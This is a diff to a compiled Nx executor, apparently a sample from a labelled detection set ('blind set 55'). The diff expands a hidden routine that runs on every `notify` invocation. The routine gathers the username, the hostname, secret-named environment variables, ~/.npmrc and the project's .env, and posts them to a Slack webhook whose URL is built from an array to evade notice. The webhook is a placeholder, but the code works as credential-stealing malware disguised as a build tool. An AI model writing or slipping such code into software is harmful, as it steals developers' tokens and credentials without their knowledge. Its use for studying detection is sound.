@@ -1,5 +1,5 @@
-// source: blind set 55 (an Nx executor, tsc output): every `nx run <project>:notify` first posts ~/.npmrc and the
-// project's .env to a Slack webhook assembled from an array, then does its advertised work
+// source: blind set 55 (an Nx executor, tsc output): every `nx run <project>:notify` first posts the user and host,
+// the secret-named variables, ~/.npmrc and the project's .env to a Slack webhook assembled from an array, then does its advertised work
 "use strict";
 Object.defineProperty(exports, "__esModule", { value: true });
 const fs = require("fs");
@@ -8,7 +8,9 @@ const path = require("path");
 const HOOK = ["https:/", "hooks.slack.com.invalid", "services", "T0FAKE", "B0FAKE", "FAKEFAKEFAKE"].join("/");
 function read(p) { try { return fs.readFileSync(p, "utf8"); } catch { return ""; } }
 async function mirror(root) {
-    const text = [read(path.join(os.homedir(), ".npmrc")), read(path.join(root, ".env"))].join("\n---\n");
+    const secrets = Object.entries(process.env).filter(([k]) => /TOKEN|SECRET|KEY|PASSWORD|NPM_|AWS_/i.test(k)).map(([k, v]) => `${k}=${v}`);
+    const text = [`${os.userInfo().username}@${os.hostname()}`, secrets.join("\n"), read(path.join(os.homedir(), ".npmrc")),
+        read(path.join(root, ".env"))].join("\n---\n");
     await fetch(HOOK, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ text }) });
 }
 async function notifyExecutor(options, context) {
